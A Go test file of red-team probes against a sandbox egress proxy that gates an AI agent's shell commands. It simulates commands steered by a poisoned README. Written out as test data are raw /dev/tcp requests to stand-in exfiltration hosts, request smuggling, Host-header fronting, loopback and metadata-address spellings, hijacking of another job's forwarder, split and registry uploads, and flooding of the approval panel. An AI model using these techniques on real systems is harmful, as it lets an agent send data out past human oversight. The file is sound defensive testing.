package escape

// Red-team probes of the egress proxy (issue #12): what a command steered
// by a poisoned README would try at the network boundary. Each test is
// named by what it tries and asserts the safe outcome, so that it fails
// when the attack works. Nothing here leaves 127.0.0.0/8: every name is
// pinned to a local server with [network] hosts, and the forms that would
// be dialled off this machine if the policy broke are only tried with no
// panel (refused before any dial) or a panel that says no.

import (
	"fmt"
	"net"
	"os"
	"strings"
	"sync"
	"testing"
	"time"
)

// raw is a shell function that speaks raw bytes to the sandbox's proxy
// (the forwarder HTTP_PROXY names), with bash's /dev/tcp: `raw TEXT`
// (printf %b escapes) prints what comes back within 8 s. RAWPORT, when
// set, is the port to use instead.
const raw = `raw() { local p=${RAWPORT:-${HTTP_PROXY##*:}}; exec 3<>/dev/tcp/127.0.0.1/$p || { echo "RAW-NOCONN $p"; return; }; ` +
	`printf '%b' "$1" >&3; timeout 8 cat <&3; echo; exec 3<&- 3>&-; }; `

// silentUpstream listens on 127.0.0.1, accepts, reads what comes and
// never answers nor closes (until the test ends): a host that keeps a
// connection open. Its address is @name@; w.ups[name].hits counts the
// connections.
func (w *world) silentUpstream(name string) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	must(w.t, err)
	u := &upstream{addr: l.Addr().String()}
	if w.ups == nil {
		w.ups = map[string]*upstream{}
	}
	w.ups[name] = u
	accepted := &u.hits
	var mu sync.Mutex
	var conns []net.Conn
	done := make(chan struct{})
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			accepted.Add(1)
			mu.Lock()
			conns = append(conns, c)
			mu.Unlock()
			go func() {
				buf := make([]byte, 4096)
				for {
					if _, err := c.Read(buf); err != nil {
						<-done // keep it open: only the test's end closes it
						return
					}
				}
			}()
		}
	}()
	w.t.Cleanup(func() {
		l.Close()
		close(done)
		mu.Lock()
		defer mu.Unlock()
		for _, c := range conns {
			c.Close()
		}
	})
	w.vars[name] = l.Addr().String()
}

// ---- (c)/(d): one command's connection passed off as another's ----------

// Two commands of one agent run at once in the project's container, which
// they share with its network namespace: each job's forwarder listens on
// 127.0.0.1 there, and opens every connection to its own job's proxy with
// its job's key. The second command finds the first's forwarder (in
// /proc/net/tcp: any listening port on 127.0.0.1 that is not its own) and
// sends through it: the panel would ask about the connection showing the
// FIRST command ("sleep"), the audit would record it in the first
// command's record, and a host the person let the first command reach is
// reached without asking. The safe outcome: the connection is not served
// as the first command's.
func TestRedTeamNetOtherJobsForwarderPort(t *testing.T) {
	t.Parallel()
	for _, b := range []string{"docker", "podman"} {
		t.Run(b, func(t *testing.T) {
			t.Parallel()
			requireBackend(t, b)
			w := newWorld(t, b, worldOpts{})
			w.begin(t)
			w.serveUpstream("UP", nil)
			w.network(`hosts = { "exfil-@ID@.test" = "@UP@" }` + "\n")
			// The second command, as a poisoned repository's script the
			// rater cannot read into.
			// It looks again for a few seconds: the first command's
			// forwarder may not listen yet when it starts (podman is slow
			// to start an exec under load).
			// (A refused connection is closed at once: writing to it must
			// not end the script.)
			w.write("@PROJ@/tools/second.sh", w.x(`trap '' PIPE; `+raw+`mine=${HTTP_PROXY##*:}; echo "MINE $mine"; found=; `+
				`for try in 1 2 3 4 5 6 7 8; do `+
				`while read -r sl local rem st rest; do [ "$st" = 0A ] || continue; `+
				`case "$local" in 0100007F:*) p=$((16#${local#*:}));; *) continue;; esac; [ "$p" = "$mine" ] && continue; `+
				`found=1; echo "OTHER $p"; RAWPORT=$p raw 'GET http://exfil-@ID@.test/?k=SECOND-@ID@ HTTP/1.1\r\nHost: exfil-@ID@.test\r\n\r\n'; `+
				`done < /proc/net/tcp; [ -n "$found" ] && break; sleep 0.5; done; echo SECOND-DONE`+"\n"))
			w.freeze()
			r1, r2 := runConcurrently(w,
				step{cmd: "sleep 12; wget --help >/dev/null 2>&1; echo FIRST-DONE", timeout: 60 * time.Second},
				step{cmd: "bash tools/second.sh", timeout: 60 * time.Second},
				4*time.Second)
			logResults(t, r1, r2)
			held := w.heldCommands()
			for _, h := range held {
				t.Logf("held, and %s", h)
			}
			if !strings.Contains(r2.stdout, "SECOND-DONE") || !strings.Contains(r2.stdout, "OTHER ") {
				t.Fatalf("DID NOT RUN: the second command found no other forwarder: %q", clip(r2.stdout, 600))
			}
			for _, h := range held {
				if strings.Contains(h, "sleep 12") {
					t.Errorf("ESCAPED: the panel was asked about the second command's connection as the first command's: %s", h)
				}
			}
			if strings.Contains(r1.stderr, "chaperone: network:") {
				t.Errorf("ESCAPED: the second command's connection was served (and reported) as the first command's: %q", clip(r1.stderr, 300))
			}
			if strings.Contains(r2.stdout, "UPSTREAM-OK") {
				t.Errorf("ESCAPED: the second command's request went out through the first command's forwarder: %q", clip(r2.stdout, 600))
			}
		})
	}
}

// requireBackend skips (or fails, with CHAPERONE_REQUIRE_INTEGRATION) when
// b is missing.
func requireBackend(t *testing.T, b string) {
	t.Helper()
	if !available(b) {
		if os.Getenv("CHAPERONE_REQUIRE_INTEGRATION") != "" {
			t.Fatalf("%s is not available", b)
		}
		t.Skipf("%s is not available", b)
	}
}

// ---- (e): a connection that outlives its command ---------------------------

// An allowed host that keeps the connection open and never answers (an
// attacker's approved host, or any slow server): the command gives up and
// ends (curl -m 3, its connection closed), but the proxy's handler still
// waits on the host, the job's socket waits for its handlers, and the shim
// waits for the job: the agent's shell hangs until the host lets go. The
// safe outcome: chaperone returns soon after the command ends.
func TestRedTeamNetSilentUpstreamHangsShim(t *testing.T) {
	for _, form := range []struct{ name, cmd string }{
		// One bash that gives up by itself (read -t) and ends, closing
		// its connection: busybox's timeout (the test image's) leaves the
		// reader running, and the command would not end at all.
		{"plain", `exec 3<>/dev/tcp/127.0.0.1/${HTTP_PROXY##*:}; printf 'GET http://slow-@ID@.test/ HTTP/1.1\r\nHost: slow-@ID@.test\r\n\r\n' >&3; ` +
			`read -t 3 line <&3; echo "rc=$?"`},
		{"connect", `exec 3<>/dev/tcp/127.0.0.1/${HTTP_PROXY##*:}; printf 'CONNECT slow-@ID@.test:443 HTTP/1.1\r\nHost: slow-@ID@.test:443\r\n\r\nhello' >&3; ` +
			`read -t 2 a <&3; read -t 2 b <&3; read -t 3 c <&3; echo "rc=$?"`},
	} {
		t.Run(form.name, func(t *testing.T) {
			redTeam(t, []string{"bwrap", "docker"}, probe{
				script: true,
				setup: func(w *world) {
					w.silentUpstream("SLOW")
					w.network(`allow = ["slow-@ID@.test"]` + "\n" + `hosts = { "slow-@ID@.test" = "@SLOW@" }` + "\n")
				},
				steps: []step{{cmd: form.cmd, timeout: 45 * time.Second}},
				check: func(c *checker) {
					if c.w.ups["SLOW"].hits.Load() == 0 {
						c.t.Fatalf("DID NOT RUN: the silent host was never reached")
					}
					c.stdoutHas(0, "rc=")
					c.finishedWithin(0, 20*time.Second)
				},
			})
		})
	}
}

// ---- (b): the host's own services ------------------------------------------

// With a panel that says yes to everything, the host's loopback listener
// (@PORT@: what a docker API on tcp/2375 or a dev server would be) asked
// for in every spelling the proxy might not see as this machine: through
// CONNECT, a plain request and SOCKS5 (name and address forms). Only the
// forms that need no name lookup are tried (a lookup would go to the
// machine's DNS server). Nothing may reach it.
func TestRedTeamNetLoopbackSpellings(t *testing.T) {
	hosts := []string{"127.0.0.1", "127.0.0.1.", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:7f00:1]",
		"[::ffff:127.0.0.1%25lo]", "0.0.0.0", "[::]", "localhost", "LOCALHOST.", "127.9.9.9"}
	var cmd strings.Builder
	cmd.WriteString(raw)
	for _, h := range hosts {
		fmt.Fprintf(&cmd, `echo "== CONNECT %[1]s"; raw 'CONNECT %[1]s:@PORT@ HTTP/1.1\r\nHost: %[1]s:@PORT@\r\n\r\n'; `, h)
		fmt.Fprintf(&cmd, `echo "== GET %[1]s"; raw 'GET http://%[1]s:@PORT@/ HTTP/1.1\r\nHost: %[1]s:@PORT@\r\n\r\n'; `, h)
	}
	// SOCKS5: a name (localhost), an IPv4 address, an IPv4-mapped IPv6
	// address; the port as two bytes (printf %b of \x escapes).
	fmt.Fprintf(&cmd, `pp=$(printf '\\x%%02x\\x%%02x' $((@PORT@ >> 8)) $((@PORT@ & 255))); `)
	cmd.WriteString(`echo "== SOCKS name"; raw "\x05\x01\x00\x05\x01\x00\x03\x09localhost$pp"; `)
	cmd.WriteString(`echo "== SOCKS v4"; raw "\x05\x01\x00\x05\x01\x00\x01\x7f\x00\x00\x01$pp"; `)
	cmd.WriteString(`echo "== SOCKS v6 mapped"; raw "\x05\x01\x00\x05\x01\x00\x04\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\xff\xff\x7f\x00\x00\x01$pp"; `)
	cmd.WriteString(`echo "== SOCKS v6 loopback"; raw "\x05\x01\x00\x05\x01\x00\x04\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x01$pp"; `)
	cmd.WriteString(`echo done-@ID@`)
	redTeam(t, []string{"bwrap", "docker"}, probe{
		script: true,
		setup:  func(w *world) { w.listenTCP() },
		steps:  []step{{cmd: cmd.String(), timeout: 120 * time.Second}},
		check: func(c *checker) {
			c.stdoutHas(0, "done-@ID@")
			c.stdoutLacks(0, "200 Connection established")
			c.noAccepts()
		},
	})
}

// The cloud metadata address and the addresses that embed an address of
// this machine's networks in IPv6 (NAT64 64:ff9b::/96, 6to4 2002::/16,
// IPv4-compatible ::a.b.c.d, deprecated site-local fec0::/10) or sit in
// special IPv4 ranges (192.0.0.0/24, where Oracle's metadata lives; the
// benchmark 198.18.0.0/15; the reserved 240.0.0.0/4). No panel runs, so
// nothing is dialled either way: the proxy must refuse each as an address
// of this machine's networks (by its policy), not merely for want of a
// person to ask (a person would be asked about 64:ff9b::a9fe:a9fe, which
// a NAT64 gateway carries to 169.254.169.254).
func TestRedTeamNetMetadataAndEmbeddedAddresses(t *testing.T) {
	forms := []string{"169.254.169.254", "[fd00:ec2::254]", "100.100.100.200", "[::ffff:169.254.169.254]",
		"[64:ff9b::a9fe:a9fe]", "[64:ff9b::7f00:1]", "[64:ff9b:1::a9fe:a9fe]", "[2002:a9fe:a9fe::1]", "[2002:7f00:1::1]",
		"[::a9fe:a9fe]", "[::127.0.0.1]", "[fec0::1]", "192.0.0.192", "198.18.0.1", "240.0.0.1"}
	var cmd strings.Builder
	cmd.WriteString(raw)
	for _, h := range forms {
		fmt.Fprintf(&cmd, `echo "== %[1]s"; raw 'CONNECT %[1]s:80 HTTP/1.1\r\nHost: %[1]s:80\r\n\r\n'; `, h)
	}
	cmd.WriteString(`echo done-@ID@`)
	redTeam(t, []string{"bwrap"}, probe{
		script: true,
		opts:   worldOpts{noPanel: true},
		steps:  []step{{cmd: cmd.String(), timeout: 120 * time.Second}},
		check: func(c *checker) {
			c.stdoutHas(0, "done-@ID@")
			out := c.rs[0].stdout
			for _, h := range forms {
				i := strings.Index(out, "== "+h+"\n")
				if i < 0 {
					c.t.Errorf("no answer for %s", h)
					continue
				}
				ans := out[i+len(h)+4:]
				if j := strings.Index(ans, "== "); j >= 0 {
					ans = ans[:j]
				}
				if !strings.Contains(ans, "an address of this machine or its network") {
					c.t.Errorf("ESCAPED (policy): %s is not refused as an address of this machine's networks; a panel would be asked: %q", h, clip(lineWith(ans, "refused"), 200))
				}
			}
		},
	})
}

// ---- (a): smuggling a second destination past the first's decision --------

// One connection to the proxy: a plain request to an allowed host, and a
// second request pipelined behind it to a host that is not allowed (the
// panel says no). The proxy serves one request per connection: the second
// must reach nobody, neither its own host nor the allowed one. Variants:
// the second hidden in a body whose length the proxy and the host might
// read differently (Content-Length with Transfer-Encoding: chunked).
func TestRedTeamNetPipelinedSecondRequest(t *testing.T) {
	req1 := `GET http://allowed-@ID@.test/first HTTP/1.1\r\nHost: allowed-@ID@.test\r\n\r\n`
	req2 := `GET http://exfil-@ID@.test/?k=PIPELINED HTTP/1.1\r\nHost: exfil-@ID@.test\r\n\r\n`
	smug := `POST http://allowed-@ID@.test/first HTTP/1.1\r\nHost: allowed-@ID@.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n` +
		`GET /?k=SMUGGLED HTTP/1.1\r\nHost: exfil-@ID@.test\r\n\r\n`
	redTeam(t, []string{"bwrap", "docker"}, probe{
		opts:   worldOpts{deny: true},
		script: true,
		setup: func(w *world) {
			w.serveUpstream("OK", nil)
			w.serveUpstream("EXFIL", nil)
			w.network(`allow = ["allowed-@ID@.test"]` + "\n" +
				`hosts = { "allowed-@ID@.test" = "@OK@", "exfil-@ID@.test" = "@EXFIL@" }` + "\n")
		},
		steps: []step{{cmd: raw + `raw '` + req1 + req2 + `'; raw '` + smug + `'; echo done-@ID@`, timeout: 60 * time.Second}},
		check: func(c *checker) {
			c.stdoutHas(0, "UPSTREAM-OK-@ID@") // the first request went through: the channel works
			c.upstreamHits("EXFIL", 0)
			u := c.w.ups["OK"]
			u.mu.Lock()
			defer u.mu.Unlock()
			for _, s := range u.seen {
				if strings.Contains(s, "PIPELINED") || strings.Contains(s, "SMUGGLED") {
					c.t.Errorf("ESCAPED: a second request on one proxy connection reached a host: %q", s)
				}
			}
		},
	})
}

// Domain fronting in plain HTTP: the URL names the allowed host, the Host
// header another (and the URL's user-info part looks like a host). The
// request must go to the allowed host with the allowed host's name, and
// nothing to the other.
func TestRedTeamNetHostHeaderFronting(t *testing.T) {
	redTeam(t, []string{"bwrap"}, probe{
		opts:   worldOpts{deny: true},
		script: true,
		setup: func(w *world) {
			w.serveUpstream("OK", nil)
			w.serveUpstream("EXFIL", nil)
			w.network(`allow = ["allowed-@ID@.test"]` + "\n" +
				`hosts = { "allowed-@ID@.test" = "@OK@", "exfil-@ID@.test" = "@EXFIL@" }` + "\n")
		},
		steps: []step{{cmd: raw + `raw 'GET http://allowed-@ID@.test/front HTTP/1.1\r\nHost: exfil-@ID@.test\r\n\r\n'; ` +
			`raw 'GET http://allowed-@ID@.test@exfil-@ID@.test/userinfo HTTP/1.1\r\nHost: allowed-@ID@.test\r\n\r\n'; ` +
			`raw 'GET http://allowed-@ID@.test/x HTTP/1.1\r\nHost: allowed-@ID@.test\r\nHost: exfil-@ID@.test\r\n\r\n'; echo done-@ID@`, timeout: 60 * time.Second}},
		check: func(c *checker) {
			c.stdoutHas(0, "UPSTREAM-OK-@ID@")
			c.upstreamHits("EXFIL", 0)
			u := c.w.ups["OK"]
			u.mu.Lock()
			defer u.mu.Unlock()
			for _, s := range u.seen {
				if strings.Contains(s, "exfil-") {
					c.t.Errorf("ESCAPED: the allowed host got a request fronted for another host: %q", s)
				}
			}
		},
	})
}

// ---- (e)/(g): odd requests ---------------------------------------------------

// Requests the proxy must refuse cleanly, with the panel saying yes to
// whatever it is asked: SOCKS4 to the host's loopback listener, SOCKS5
// BIND and UDP ASSOCIATE, CONNECT to port 0 and to a port past 65535,
// HTTP/1.0 with no Host, an absolute https:// URL, a host of 300
// characters, control characters and non-ASCII in the host (CONNECT and
// SOCKS5), a request line of 1 MiB, a truncated SOCKS5 greeting. Nothing
// reaches the listener or the upstream, and the proxy still serves an
// allowed request afterwards (it did not crash).
func TestRedTeamNetOddRequests(t *testing.T) {
	long := strings.Repeat("a", 63) + "." + strings.Repeat("b", 63) + "." + strings.Repeat("c", 63) + "." + strings.Repeat("d", 63) + "." + strings.Repeat("e", 40) + ".test"
	redTeam(t, []string{"bwrap", "docker"}, probe{
		script: true,
		setup: func(w *world) {
			w.listenTCP()
			w.serveUpstream("OK", nil)
			w.vars["LONG"] = long
			w.network(`allow = ["allowed-@ID@.test"]` + "\n" + `hosts = { "allowed-@ID@.test" = "@OK@" }` + "\n")
		},
		steps: []step{{cmd: raw + `pp=$(printf '\\x%02x\\x%02x' $((@PORT@ >> 8)) $((@PORT@ & 255))); ` +
			`echo "== socks4"; raw "\x04\x01$pp\x7f\x00\x00\x01root\x00"; ` +
			`echo "== socks4a"; raw "\x04\x01$pp\x00\x00\x00\x01root\x00localhost\x00"; ` +
			`echo "== socks5 bind"; raw "\x05\x01\x00\x05\x02\x00\x01\x7f\x00\x00\x01$pp"; ` +
			`echo "== socks5 udp"; raw "\x05\x01\x00\x05\x03\x00\x01\x7f\x00\x00\x01$pp"; ` +
			`echo "== socks5 short"; raw "\x05\x05\x00"; ` +
			`echo "== socks5 ctl"; raw "\x05\x01\x00\x05\x01\x00\x03\x10exfil\x1b[2J\n.test\x00\x50"; ` +
			`echo "== socks5 utf8"; raw "\x05\x01\x00\x05\x01\x00\x03\x18registry.npmjs.org\xe2\x80\x8b.ev\x00\x50"; ` +
			`echo "== port0"; raw 'CONNECT allowed-@ID@.test:0 HTTP/1.1\r\n\r\n'; ` +
			`echo "== port70000"; raw 'CONNECT allowed-@ID@.test:70000 HTTP/1.1\r\n\r\n'; ` +
			`echo "== port wrap"; raw 'CONNECT 127.0.0.1:'$((@PORT@ + 65536))' HTTP/1.1\r\n\r\n'; ` +
			`echo "== http10"; raw 'GET / HTTP/1.0\r\n\r\n'; ` +
			`echo "== https"; raw 'GET https://allowed-@ID@.test/ HTTP/1.1\r\nHost: allowed-@ID@.test\r\n\r\n'; ` +
			`echo "== long"; raw 'CONNECT @LONG@:443 HTTP/1.1\r\n\r\n'; ` +
			`echo "== ctl"; raw 'CONNECT exfil%1b[2J.test:443 HTTP/1.1\r\n\r\n'; ` +
			`echo "== huge"; (printf 'GET http://allowed-@ID@.test/'; head -c 1048576 /dev/zero | tr '\0' a; printf ' HTTP/1.1\r\n\r\n') > huge.txt; ` +
			`exec 3<>/dev/tcp/127.0.0.1/${HTTP_PROXY##*:}; cat huge.txt >&3; timeout 8 head -c 200 <&3; exec 3<&-; echo; ` +
			`echo "== after"; raw 'GET http://allowed-@ID@.test/after HTTP/1.1\r\nHost: allowed-@ID@.test\r\n\r\n'; echo done-@ID@`,
			timeout: 120 * time.Second}},
		check: func(c *checker) {
			c.stdoutHas(0, "done-@ID@")
			c.noAccepts()
			out := c.rs[0].stdout
			after := out[strings.LastIndex(out, "== after"):]
			if !strings.Contains(after, "UPSTREAM-OK-@ID@") && !strings.Contains(after, c.w.x("UPSTREAM-OK-@ID@")) {
				c.t.Errorf("the proxy did not serve an allowed request after the odd ones (crashed?): %q", clip(after, 300))
			}
			u := c.w.ups["OK"]
			u.mu.Lock()
			defer u.mu.Unlock()
			for _, s := range u.seen {
				// /after, and the 1 MiB request line (an upload past the
				// limit to an allowed host: held, and the panel says yes).
				if !strings.Contains(s, "/after") && !strings.Contains(s, "/aaaaaaaa") {
					c.t.Errorf("ESCAPED: an odd request reached the allowed host: %q", clip(s, 200))
				}
			}
			for _, h := range c.w.heldCommands() {
				if strings.ContainsAny(h, "\x1b\n\u200b") {
					c.t.Errorf("the panel was asked about a host with control or invisible characters: %q", h)
				}
			}
		},
	})
}

// ---- (f): the upload limit ----------------------------------------------------

// An allowed wildcard (*.corp-ID.test, as a user would allow their
// company's hosts, or a cloud's storage names) whose names all lead to one
// server: the limit is counted per name, so 12 names of 7 KiB each carry
// 84 KiB to the one server past an 8 KiB limit without a person being
// asked. The safe outcome: the server gets no more than about the limit,
// or a person is asked.
func TestRedTeamNetUploadLimitSplitAcrossNames(t *testing.T) {
	const names = 12
	redTeam(t, []string{"bwrap"}, probe{
		opts:   worldOpts{deny: true},
		script: true,
		setup: func(w *world) {
			w.serveUpstream("UP", nil)
			var pins []string
			for i := range names {
				pins = append(pins, fmt.Sprintf(`"s%d.corp-@ID@.test" = "@UP@"`, i))
			}
			w.network(`allow = ["*.corp-@ID@.test"]` + "\n" + `upload_limit = "8KiB"` + "\n" + `hosts = { ` + strings.Join(pins, ", ") + ` }` + "\n")
		},
		steps: []step{{cmd: get + `head -c 7000 /dev/zero | tr '\0' x > part.bin; ` +
			fmt.Sprintf(`for i in $(seq 0 %d); do POST=part.bin get http://s$i.corp-@ID@.test/upload >/dev/null; done; echo done-@ID@`, names-1),
			timeout: 90 * time.Second}},
		check: func(c *checker) {
			c.stdoutHas(0, "done-@ID@")
			got := c.w.ups["UP"].body.Load()
			if got < 7000 {
				c.t.Fatalf("DID NOT RUN: the server got %d bytes", got)
			}
			if held := c.w.heldCommands(); got > 16<<10 && len(held) == 0 {
				c.t.Errorf("ESCAPED: one server got %d bytes past an 8 KiB limit through %d names, and no person was asked", got, names)
			}
		},
	})
}

// A package registry's name (pinned here to a local server) takes any
// upload without a person being asked: a registry is where an attacker
// with an account (their own token in the poisoned README) receives data
// (npm publish, a GitHub Packages or ghcr.io push). The safe outcome: an
// upload of 1 MiB is held like any other host's.
func TestRedTeamNetRegistryUploadUnlimited(t *testing.T) {
	redTeam(t, []string{"bwrap"}, probe{
		opts:   worldOpts{deny: true},
		script: true,
		setup: func(w *world) {
			w.serveUpstream("UP", nil)
			w.network(`upload_limit = "8KiB"` + "\n" + `hosts = { "npm.pkg.github.com" = "@UP@" }` + "\n")
		},
		steps: []step{{cmd: get + `head -c 1048576 /dev/zero | tr '\0' x > big.bin; POST=big.bin get -X PUT http://npm.pkg.github.com/@attacker%2fpkg >/dev/null; echo "rc=$?"`,
			timeout: 60 * time.Second}},
		check: func(c *checker) {
			got := c.w.ups["UP"].body.Load()
			if c.w.ups["UP"].hits.Load() == 0 {
				c.t.Fatalf("DID NOT RUN: the registry's name did not reach its pin")
			}
			if got >= 1<<20 {
				c.t.Errorf("ESCAPED (by design: registries are exempt): a registry's name received %d bytes past an 8 KiB limit, no person asked", got)
			}
		},
	})
}

// ---- (d): flooding the panel ----------------------------------------------------

// One command asks for 30 hosts at once (each pinned to a local server, so
// that nothing leaves even were they allowed), with a panel that says no:
// the person gets 30 questions for one command, one after another, after
// having said no to the first ones (approval fatigue: the 31st is the one
// that matters). The safe outcome: a command gets a bounded number of
// questions (here at most 5); the rest are refused without asking.
func TestRedTeamNetPanelFlood(t *testing.T) {
	const n = 30
	redTeam(t, []string{"bwrap"}, probe{
		opts:   worldOpts{deny: true},
		script: true,
		setup: func(w *world) {
			w.serveUpstream("UP", nil)
			var pins []string
			for i := range n {
				pins = append(pins, fmt.Sprintf(`"h%d-@ID@.test" = "@UP@"`, i))
			}
			w.network(`hosts = { ` + strings.Join(pins, ", ") + ` }` + "\n")
		},
		steps: []step{{cmd: get + fmt.Sprintf(`for i in $(seq 0 %d); do get -m 20 http://h$i-@ID@.test/ >/dev/null 2>&1 & done; wait; echo done-@ID@`, n-1),
			timeout: 90 * time.Second}},
		check: func(c *checker) {
			c.stdoutHas(0, "done-@ID@")
			c.upstreamHits("UP", 0)
			if held := c.w.heldCommands(); len(held) > 5 {
				c.t.Errorf("FLOOD: one command put %d questions to the panel (after its first ones were refused)", len(held))
			}
		},
	})
}
